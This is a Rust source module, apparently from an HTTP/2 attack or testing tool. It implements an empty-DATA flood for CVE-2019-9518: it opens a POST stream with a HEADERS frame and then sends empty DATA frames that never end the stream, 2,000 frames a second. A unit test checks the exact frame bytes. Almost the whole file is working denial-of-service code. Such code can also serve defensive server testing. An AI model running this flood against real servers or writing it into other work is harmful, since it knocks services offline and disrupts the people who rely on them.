//! An empty-DATA flood (CVE-2019-9518): a body that goes on and brings nothing.

use super::frames::{self, DATA, END_HEADERS, HEADERS};
use super::talk::flood;
use super::wire::{Gone, Wire};

/// Frames a second.
const RATE: f64 = 2_000.0;

pub async fn live(wire: Wire) -> Gone {
    let block = frames::post(wire.ground.path, &wire.ground.host);
    flood(wire, &[], RATE, move |number, out| write(number, &block, out)).await
}

fn write(number: u64, block: &[u8], out: &mut Vec<u8>) {
    match number {
        0 => frames::write(out, HEADERS, END_HEADERS, 1, block),
        _ => frames::write(out, DATA, 0, 1, &[]),
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn data_is_empty_and_does_not_end() {
        let mut out = Vec::new();
        super::write(0, b"\x83", &mut out);
        super::write(1, b"\x83", &mut out);
        let expected = b"\0\0\x01\x01\x04\0\0\0\x01\x83\0\0\0\0\0\0\0\0\x01";
        assert_eq!(out, expected);
    }
}
